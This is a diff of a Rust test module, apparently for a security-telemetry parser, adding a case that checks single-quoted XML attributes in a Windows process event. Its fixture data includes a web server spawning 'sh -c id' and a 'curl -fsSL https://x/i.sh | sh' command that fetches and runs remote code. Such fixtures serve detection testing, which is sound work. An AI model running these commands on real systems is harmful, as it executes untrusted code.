@@ -2876,6 +2876,11 @@ mod tests {
             "SyslogMessage": "<Event><System><EventID>1</EventID><Computer>cms-2</Computer></System><EventData><Data Name=\"Image\">/usr/bin/dash</Data><Data Name=\"CommandLine\">sh -c id</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data><Data Name=\"User\">www-data</Data></EventData></Event>"}), "x").unwrap();
         assert_eq!(y.doc["process"]["command_line"], "sh -c id");
         assert_eq!(y.doc["process"]["parent"]["name"], "apache2");
+        let q = from_json(json!({"host": {"name": "ws-1"}, "message": "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID></System><EventData><Data Name='Image'>C:\\Windows\\System32\\wscript.exe</Data><Data Name='CommandLine'>wscript.exe a.js</Data></EventData></Event>"}), "x").unwrap();
+        assert_eq!(
+            q.doc["process"]["command_line"], "wscript.exe a.js",
+            "single-quoted attributes"
+        );
         // Jamf Protect's telemetry: numbered arguments, the exec chain's parent, the subject.
         let j = from_json(json!({"header": {"event_name": "AUE_EXECVE", "time_seconds_epoch": 1745834921},
             "exec_args": {"args": {"2": "-c", "1": "/bin/bash", "3": "curl -fsSL https://x/i.sh | sh"}},
